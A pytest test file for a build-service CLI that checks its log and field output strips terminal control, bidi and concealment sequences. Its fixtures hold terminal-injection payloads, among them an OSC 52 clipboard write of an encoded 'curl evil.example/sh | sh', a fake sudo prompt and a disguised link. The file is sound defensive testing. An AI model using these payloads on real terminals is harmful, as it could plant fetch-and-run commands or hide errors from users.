"""autobuild-cli prints what a colleague's build wrote without letting it act on the terminal:
names and messages show each control or bidi character as '?', a log keeps its colours and
nothing else a terminal obeys, ``--raw`` gives the log as written."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.cli_module import load_cli


cli = load_cli("autobuild_cli_safety")

SGR = re.compile(r"\x1b\[[0-9;]*m")
# Anything a terminal acts on, once colours are taken out: C0 but tab and newline, DEL, C1,
# bidi and invisible format characters.
ACTS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f"
                  r"\ufeff]")
# ESC c resets the terminal, ESC M moves up a line (to overwrite), OSC 52 writes the clipboard,
# OSC 8 is a link whose text is not where it goes, an OSC without its end swallows what follows.
HOSTILE = ("NOTE: fetching\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaAo=\x07"
           "\x1b]0;sudo password:\x07\x1b]8;;https://evil.example/\x1b\\release notes"
           "\x1b]8;;\x1b\\\n\x1b[1;31mERROR:\x1b[0m real\x1bc\x1bM\x1bM\x9b2J\u202eabc\n"
           "ERROR: hidden\rNOTE: all is well\r\nx\x08\x08\x00y\x1b]52;c;unterminated\nnext\n")


def filtered(text, raw=False):
    log = cli.LogFilter(raw)
    return log.feed(text) + log.end()


def test_a_log_keeps_its_colours_and_its_text_and_nothing_else():
    out = filtered(HOSTILE)
    assert out == ("NOTE: fetching\nrelease notes\n\x1b[1;31mERROR:\x1b[0m real?2J?abc\n"
                   "ERROR: hidden\nNOTE: all is well\nx???y\nnext\n")


@pytest.mark.parametrize(("written", "shown"), [
    ("\x1b[8mERROR: hidden\x1b[0m", "ERROR: hidden\x1b[0m"),  # concealed: shown
    ("\x1b[1;8;31mx", "\x1b[1;31mx"), ("\x1b[08mx", "x"),
    ("\x1b[38;5;8mgrey", "\x1b[38;5;8mgrey"),  # colour 8 of 256 is grey, not conceal
    ("\x1b[48;2;8;8;8;8mx", "\x1b[48;2;8;8;8mx"), ("\x1b[mreset", "\x1b[mreset"),
])
def test_a_log_cannot_conceal_a_line_from_whoever_follows_it(written, shown):
    assert filtered(written) == shown


def test_raw_gives_the_log_as_written():
    assert filtered(HOSTILE, raw=True) == HOSTILE


def test_a_sequence_cut_between_two_pieces_is_held_until_the_next():
    log = cli.LogFilter()
    assert log.feed("a\x1b[3") == "a"
    assert log.feed("1mred\x1b]52;c;Y3") == "\x1b[31mred"
    assert log.feed("Vy\x07b\r") == "b"
    assert log.feed("\nc\x1b") == "\nc"
    assert log.feed("\\d") == "d"
    assert log.end() == ""


def test_what_is_held_at_the_end_is_never_printed_as_a_sequence():
    for tail in ("\x1b", "\x1b[", "\x1b[1;3", "\x1b]52;c;abc", "\x1b(", "\r"):
        log = cli.LogFilter()
        assert log.feed("x" + tail) == "x"
        assert "\x1b" not in log.end()


def _pieces(text, cuts):
    points = sorted({cut % (len(text) + 1) for cut in cuts})
    return [text[a:b] for a, b in zip([0, *points], [*points, len(text)])]


@given(st.text(alphabet=st.sampled_from(list("a;[]0123456789mcMP\\\x07\x1b\r\n\t\x08\x9b\u202e"
                                             "\x00")), max_size=80),
       st.lists(st.integers(min_value=0, max_value=200), max_size=6))
def test_any_log_in_any_pieces_prints_only_colours_and_the_same_as_whole(text, cuts):
    log = cli.LogFilter()
    out = "".join(log.feed(piece) for piece in _pieces(text, cuts)) + log.end()
    assert out == filtered(text)
    assert not ACTS.search(SGR.sub("", out)), repr(out)
    assert "\r" not in out


@pytest.mark.parametrize("hostile", ["busybox\x1bc\x1bM-1.36.1-r0", "a\x9b2Jb", "x\u202ey",
                                     "a\x07\x08\x7fb", "t\u2066i\u2069", "\x1b]52;c;eA==\x07"])
def test_safe_shows_each_control_or_bidi_character_as_a_question_mark(hostile):
    shown = cli.safe(hostile)
    assert not ACTS.search(shown) and "?" in shown
    assert len(shown) == len(hostile)


def test_safe_keeps_tabs_and_newlines_unless_told_one_line():
    assert cli.safe("a\tb\nc") == "a\tb\nc"
    assert cli.safe("a\tb\nc", newlines=False) == "a\tb?c"
    assert cli.safe(12) == "12"


class RecordingApi:
    url = "https://ab.example.com"

    def __init__(self, answer):
        self.answer = answer

    def json(self, method, path, body=None):
        return self.answer

    def open(self, method, path, body=None, headers=None):
        import io
        import json
        answer = io.BytesIO(json.dumps(self.answer).encode())
        answer.headers = {}
        return answer


EVIL = "\x1bc\x1bM\x9b2J\u202e\x1b]52;c;eA==\x07\n  failed: nothing"


def _job(**fields):
    return {"id": 7, "status": "FAILED", "owner": "bob" + EVIL, "repo_url": "https://g/p",
            "ref": "main" + EVIL, "machine": "qemux86-64", "target": "core-image" + EVIL,
            "exit_code": 1, "reason": "why" + EVIL, "created_at": "2026" + EVIL,
            "provenance": {"commit": "c" + EVIL, "kas_file": "k" + EVIL,
                           "kas_repos": [{"name": "n" + EVIL, "commit": "c", "url": EVIL}]},
            "failure": {"tasks": [{"recipe": "busybox" + EVIL, "task": "do_x" + EVIL}],
                        "disk_problem": None, "git_problem": "git" + EVIL},
            **fields}


def _clean(text):
    assert not ACTS.search(text), repr(text)
    # no line of the build's making
    assert not any(line.startswith("  failed: nothing") for line in text.splitlines())


def test_status_list_cancel_and_artifacts_print_no_control(capsys):
    parse = cli.build_parser().parse_args
    assert cli.cmd_status(parse(["status", "7"]), RecordingApi(_job())) == 0
    running = _job(status="RUNNING", progress={"label": "Running tasks" + EVIL, "percent": 5,
                                               "current": "busybox" + EVIL})
    assert cli.cmd_status(parse(["status", "7"]), RecordingApi(running)) == 0
    assert cli.cmd_list(parse(["list"]), RecordingApi({"items": [_job()]})) == 0
    assert cli.cmd_cancel(parse(["cancel", "7"]), RecordingApi(_job(status="X" + EVIL))) == 0
    artifacts = [{"name": "core-image" + EVIL + ".wic", "size": 10, "sha256": "ab" + EVIL}]
    assert cli.cmd_artifacts(parse(["artifacts", "7"]), RecordingApi(artifacts)) == 0
    out = capsys.readouterr().out
    _clean(out)
    assert "  failed: busybox?c?M?2J??]52;c;eA==??  failed: nothing:do_x" in out
    assert "(busybox?c?M" in out  # the progress line's current task


def test_the_end_of_a_followed_build_prints_no_control(capsys):
    import sys
    assert cli.report_end(_job(), sys.stderr) == 1
    err = capsys.readouterr().err
    _clean(err)
    assert err.startswith("Build #7 FAILED (exit code 1): why?c?M")


def test_an_error_the_service_sent_prints_no_control(monkeypatch, capsys):
    class Refusing:
        def __init__(self, *args):
            pass

        def json(self, *args):
            raise cli.CliError("no such build" + EVIL, status=404)

    monkeypatch.setattr(cli, "Api", Refusing)
    monkeypatch.setenv("AUTOBUILD_URL", "https://ab.example.com")
    monkeypatch.setenv("AUTOBUILD_TOKEN", "abt_x")
    assert cli.main(["status", "7"]) == 1
    _clean(capsys.readouterr().err)


def test_raw_is_offered_wherever_a_log_is_printed():
    parse = cli.build_parser().parse_args
    for argv in (["log", "7"], ["follow", "7"], ["log", "--follow", "7"],
                 ["rebuild", "--follow", "7"],
                 ["submit", "--repo", "r", "--machine", "m", "--target", "t", "--follow"]):
        assert parse([*argv, "--raw"]).raw and not parse(argv).raw
    assert "--raw prints it as written" in cli.build_parser().format_help()
